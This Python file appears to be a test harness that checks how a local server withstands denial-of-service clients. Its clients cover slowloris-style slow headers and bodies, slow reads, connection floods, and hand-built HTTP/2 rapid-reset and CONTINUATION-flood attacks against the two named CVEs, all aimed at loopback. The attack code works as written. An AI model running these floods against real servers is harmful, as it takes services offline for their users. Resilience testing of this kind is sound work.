"""Clients that mean no good, each kind in a process of its own, all of them bounded in number and time.

A crowd answers how each of its members was ended: by a status, "closed" without a byte, "cut" in the middle of an
answer, "goaway N" on HTTP/2, or "not ended" when its time was over.
"""
import collections
import select
import socket
import ssl
import struct
import time

ADDRESSES = 200  # of loopback, so that a limit per client is not what ends them
ARRIVALS_A_SECOND = 2500
HEAD = b"Host: localhost\r\nUser-Agent: slow\r\n"
READ_BYTES = 512 * 1024
PATIENCE_S = 5  # with a flood of HTTP/2, for each connection

STARTS = {
    "slow_head": b"GET / HTTP/1.1\r\n" + HEAD + b"X-Slow: ",
    "slow_body": b"POST /orders HTTP/1.1\r\n" + HEAD + b"Content-Length: 100000\r\n\r\n{",
    "slow_read": b"GET /bytes/%d HTTP/1.1\r\n" % READ_BYTES + HEAD + b"\r\n",
    "silent": b"",
    "hoarder": b"",  # all of them from one address
}


def address_of(kind, number):
    if kind == "hoarder":
        return "127.0.3.1"
    return f"127.0.{1 + number % ADDRESSES // 100}.{1 + number % 100}"


class Member:
    def __init__(self, port, kind, number):
        self.kind, self.got = kind, b""
        self.link = socket.socket()
        if kind == "slow_read":  # as over a real network: small segments, a small window
            self.link.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            self.link.setsockopt(socket.IPPROTO_TCP, socket.TCP_MAXSEG, 1460)
        self.link.bind((address_of(kind, number), 0))
        self.link.settimeout(10)
        self.link.connect(("127.0.0.1", port))
        self.link.setblocking(False)
        if STARTS[kind]:
            self.link.send(STARTS[kind])

    def drip(self):
        """The byte a second that is to keep the connection alive: of the head, of the body, or taken from the answer."""
        try:
            if self.kind in ("slow_head", "slow_body"):
                self.link.send(b"x")
            elif self.kind == "slow_read":
                self.got += self.link.recv(1)
        except OSError:
            pass  # nothing there; or ended, and the next event tells how

    def ending(self):
        """How it was ended, or None while it was not."""
        try:
            while more := self.link.recv(65536):
                self.got += more
                if self.kind != "slow_read" and b"\r\n\r\n" in self.got:
                    return self.got.split(b" ")[1].decode()
        except BlockingIOError:
            return None
        except OSError:
            return "cut"
        if self.kind == "slow_read":
            return "cut" if len(self.got) < READ_BYTES else "whole answer"
        return "closed" if not self.got else "cut"


def crowd(port, counts, patience_s, result):
    """Opens counts[kind] members of each kind and sees how they are ended: {kind: {ending: number}}."""
    poll, members = select.epoll(), {}
    endings = {kind: collections.Counter() for kind in counts}
    order = sorted((i / number, kind) for kind, number in counts.items() for i in range(number))  # all kinds from the start
    began = time.monotonic()
    for number, (_, kind) in enumerate(order):
        time.sleep(max(0.0, began + number / ARRIVALS_A_SECOND - time.monotonic()))
        try:
            member = Member(port, kind, number)
        except OSError as problem:
            endings[kind]["not connected: " + str(problem)] += 1
            continue
        members[member.link.fileno()] = member
        poll.register(member.link.fileno(), select.EPOLLRDHUP | (0 if kind == "slow_read" else select.EPOLLIN))
    result.put("ready")
    last = time.monotonic() + patience_s
    next_drip = time.monotonic() + 1
    while members and time.monotonic() < last:
        for descriptor, _ in poll.poll(0.1, 1024):
            member = members[descriptor]
            how = member.ending()
            if how is None:
                continue
            endings[member.kind][how] += 1
            poll.unregister(descriptor)
            member.link.close()
            del members[descriptor]
        if time.monotonic() > next_drip:
            next_drip += 1
            for member in members.values():
                member.drip()
    for member in members.values():
        endings[member.kind]["not ended"] += 1
        member.link.close()
    result.put({kind: dict(found) for kind, found in endings.items()})


def connection_flood(port, seconds, result):
    """Connects and leaves as fast as it can."""
    result.put("ready")
    last, counts = time.monotonic() + seconds, collections.Counter()
    while time.monotonic() < last:
        try:
            with socket.socket() as link:
                link.settimeout(2)
                link.bind((address_of("churn", counts.total()), 0))
                link.connect(("127.0.0.1", port))
            counts["connected"] += 1
        except OSError:
            counts["not connected"] += 1
    result.put(dict(counts))


# --- HTTP/2, by hand: RFC 9113 section 4.1, 6 -----------------------------------------------------------------------
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_fields():
    """GET https://localhost/bytes/1 in HPACK: indexed where the static table has it, else literal."""
    def literal(index, value):
        return bytes([index, len(value)]) + value
    return b"\x82\x87" + literal(0x01, b"localhost") + literal(0x04, b"/bytes/1")


def h2_link(port):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    link = context.wrap_socket(socket.create_connection(("127.0.0.1", port), 5), server_hostname="localhost")
    if link.selected_alpn_protocol() != "h2":
        raise OSError("no HTTP/2")
    link.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return link


def ending_of_h2(link):
    """The error code of the GOAWAY in what the server said, or how it ended instead."""
    got = b""
    link.settimeout(5)
    try:
        while more := link.recv(65536):
            got += more
    except OSError:
        pass
    while len(got) >= 9:
        size, kind = int.from_bytes(got[:3], "big"), got[3]
        if kind == GOAWAY and len(got) >= 17:
            return f"goaway {int.from_bytes(got[13:17], 'big')}"
        got = got[9 + size:]
    return "closed"


def rapid_reset(link, last):
    """Opens streams and resets them in the same breath (CVE-2023-44487)."""
    stream = 1
    while time.monotonic() < last and stream < 2_000_000:
        burst = b""
        for _ in range(100):
            burst += frame(HEADERS, END_STREAM | END_HEADERS, stream, request_fields())
            burst += frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        link.sendall(burst)
    return "not ended"


def continuation_flood(link, last):
    """A head that never ends (CVE-2024-27316 and its like)."""
    link.sendall(frame(HEADERS, END_STREAM, 1, request_fields()))
    field = b"\x00\x01a\x7f\x89\x01" + b"x" * 264  # a literal of 264 bytes under the name "a"
    while time.monotonic() < last:
        link.sendall(frame(CONTINUATION, 0, 1, field * 32))
    return "not ended"


def h2_flood(port, flood, seconds, connections, result):
    """So many connections one after the other, each until the server ends it."""
    result.put("ready")
    last, endings = time.monotonic() + seconds, collections.Counter()
    for _ in range(connections):
        if time.monotonic() > last:
            break
        try:
            link = h2_link(port)
        except OSError as problem:
            endings["not connected: " + str(problem)] += 1
            continue
        try:
            how = {"rapid_reset": rapid_reset, "continuation": continuation_flood}[flood](link, time.monotonic() + PATIENCE_S)
        except OSError:
            how = ending_of_h2(link)
        endings[how] += 1
        link.close()
    result.put(dict(endings))


# --- upstreams ---------------------------------------------------------------------------------------------------------
def ask_broken(port, path, requests, at_once, result):
    """Asks for what the upstream answers badly; how each request ended."""
    result.put("ready")
    counts, started = collections.Counter(), 0
    poll, links = select.epoll(), {}
    request = f"GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n".encode()
    last = time.monotonic() + 30
    while counts.total() < requests and time.monotonic() < last:
        while len(links) < at_once and started < requests:
            link = socket.create_connection(("127.0.0.1", port), 10)
            link.sendall(request)
            link.setblocking(False)
            links[link.fileno()] = [link, b""]
            poll.register(link.fileno(), select.EPOLLIN)
            started += 1
        for descriptor, _ in poll.poll(0.1):
            link, got = links[descriptor]
            try:
                more = link.recv(65536)
            except OSError:
                more = b""
            links[descriptor][1] = got + more
            if more:
                continue
            counts[how_answered(got)] += 1
            poll.unregister(descriptor)
            link.close()
            del links[descriptor]
    if links:
        counts["not ended"] += len(links)
    result.put(dict(counts))


def how_answered(got):
    head, _, body = got.partition(b"\r\n\r\n")
    if not head:
        return "closed"
    status = head.split(b" ")[1].decode()
    length = next((int(line.split(b":")[1]) for line in head.split(b"\r\n") if line.lower().startswith(b"content-length:")), 0)
    return status if len(body) == length else "cut"
